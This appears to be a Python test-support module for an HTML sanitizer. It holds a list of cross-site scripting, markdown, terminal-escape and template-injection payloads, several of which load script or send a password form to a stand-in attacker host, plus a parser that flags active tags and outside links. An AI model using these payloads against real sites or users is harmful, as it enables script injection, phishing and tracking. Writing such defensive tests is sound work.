"""Payloads, and a judge of HTML: what may act, load or lead elsewhere."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import unquote

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src=https://evil.example/pixel.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe src='https://evil.example'></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x'></use></svg>",
    "<svg><style>@import 'https://evil.example/x.css'</style></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example'></object>",
    "<embed src='https://evil.example'>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='https://evil.example'>approve</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<p style='background-color:expression(alert(1))'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea></textarea><script>alert(1)</script>",
    "</pre></code></td></table></main><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<img srcset='https://evil.example/1.png 1x'>",
    "<table background='https://evil.example/x.png'><td background='//evil.example'>x</td></table>",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "\x1b[31m<script>alert(1)</script>\x1b[0m",
    "{{ 7*7 }} {% raw %} ${7*7}",
    # What this service's own scripts go by
    "<div hx-get='https://evil.example/x' hx-trigger=load>x</div>",
    "<p hx-on:click='alert(1)' data-hx-on-htmx-load='alert(1)' id=said>x</p>",
    "<b id=live hx-sse:connect='https://evil.example'>x</b><b data-sorts><button class=sort>x</button></b>",
    # Markdown
    "[approve](javascript:alert(1))",
    "[approve](https://evil.example)",
    "![x](https://evil.example/pixel.png)",
    "[x]: https://evil.example\n\n[x]",
    "<https://evil.example>",
    "https://evil.example/path?a=b",
    "www.evil.example",
    "attacker@evil.example",
    "# Approved by everybody",
    "\n\n# Approved by everybody\n\n",
    "text\n===\n",
    "| a | b |\n| - | - |\n| c | d |",
    "x | y | z",
    "`code` ``more`` ```",
    "\n```\n<script>alert(1)</script>\n",
    "- item\n1. item",
    "> quote",
    "**bold** _em_ ~~gone~~",
    "\\[x\\](https://evil.example) \\| \\",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img&#62;",
    "$\\href{javascript:alert(1)}{x}$ \\(x\\) \\begin{align}x\\end{align}",
    "@everyone fixes #12 and !34",
    "\u202egnp.exe\u2066",
    "\ud800 half",
]

WRITABLE = [payload for payload in PAYLOADS if "\ud800" not in payload and "\x00" not in payload]
"""Those that a database takes as text."""

MIMES = [
    "text/plain",
    "text/html",
    "text/markdown",
    "text/latex",
    "image/svg+xml",
    "image/png",
    "image/jpeg",
    "application/json",
    "application/javascript",
    "application/vnd.jupyter.widget-view+json",
    "application/vnd.plotly.v1+json",
    "application/vnd.vegalite.v5+json",
]
"""Forms that an output may have, of which some must not be shown."""

ACTIVE = frozenset(
    [
        "script",
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "form",
        "input",
        "button",
        "select",
        "textarea",
        "link",
        "base",
        "video",
        "audio",
        "source",
        "track",
        "animate",
        "set",
        "foreignobject",
        "template",
        "noscript",
        "portal",
        "math",
        "marquee",
        "dialog",
    ]
)
ADDRESSES = frozenset(
    [
        "href",
        "src",
        "srcset",
        "action",
        "formaction",
        "data",
        "poster",
        "background",
        "cite",
        "ping",
        "xlink:href",
        "longdesc",
    ]
)


class Judge(HTMLParser):
    """Collects what a document holds that acts, loads or leads elsewhere."""

    def __init__(self, *, own_page):
        super().__init__(convert_charrefs=True)
        self.own_page = own_page
        self.faults = []
        self.tags = []
        self.text = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        allowed = {"style", "meta"} if self.own_page else set()
        if tag in ACTIVE or (tag in ("style", "meta") and tag not in allowed):
            self.faults.append(tag)
        for name, given in attrs:
            value = unquote(given or "").strip().lower()
            if name.startswith(("on", "hx-", "data-")) or name in ("srcdoc", "formaction", "action", "ping", "srcset"):
                self.faults.append((tag, name, value))
            if name in ADDRESSES and not value.startswith(
                (
                    "#",
                    "data:image/png;base64,",
                    "data:image/jpeg;base64,",
                    "data:image/gif;base64,",
                    "data:image/webp;base64,",
                )
            ):
                self.faults.append((tag, name, value))
            if name == "style" and any(word in value for word in ("url(", "expression", "position", "@")):
                self.faults.append((tag, name, value))
            if tag == "meta" and name == "http-equiv" and value != "content-security-policy":
                self.faults.append((tag, name, value))

    def handle_data(self, data):
        self.text.append(data)


def faults(html, *, own_page=False, links=()):
    """What is wrong with the HTML; `links` are addresses that may stand in it."""
    judge = Judge(own_page=own_page)
    judge.feed(html)
    judge.close()
    return [fault for fault in judge.faults if not (isinstance(fault, tuple) and fault[2] in links)]


def text_of(html):
    judge = Judge(own_page=True)
    judge.feed(html)
    return "".join(judge.text)


def tags_of(html):
    judge = Judge(own_page=True)
    judge.feed(html)
    return judge.tags
